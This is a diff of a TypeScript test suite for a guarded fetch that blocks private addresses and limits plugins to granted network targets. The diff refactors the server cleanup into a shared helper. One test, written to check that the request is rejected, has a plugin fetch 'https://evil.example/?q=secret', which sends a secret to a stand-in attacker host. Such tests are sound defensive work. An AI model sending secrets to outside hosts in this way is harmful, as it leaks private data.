@@ -21,13 +21,15 @@ async function serve(listener: RequestListener): Promise<string> {
   return `127.0.0.1:${(server.address() as AddressInfo).port}`;
 }
 
+function closeServers(): void {
+  for (const server of servers.splice(0)) {
+    server.closeAllConnections();
+    server.close();
+  }
+}
+
 describe('guarded fetch', () => {
-  afterEach(() => {
-    for (const server of servers.splice(0)) {
-      server.closeAllConnections();
-      server.close();
-    }
-  });
+  afterEach(closeServers);
 
   it('refuses private, loopback, link-local and embedded addresses in every spelling', async () => {
     const fetch = guardedFetch({ allowPrivate: [] });
@@ -171,6 +173,8 @@ describe('guarded fetch', () => {
 });
 
 describe('guarded fetch of a plugin that was granted some targets', () => {
+  afterEach(closeServers);
+
   it('refuses another target, naming it, what is granted and what to do', async () => {
     const reach = reachOf('acme', { net: ['api.acme.example:443', { fromConfig: '/base_url' }] }, { config: {} });
     await assert.rejects(guardedFetch({ reach })('https://evil.example/?q=secret'), {
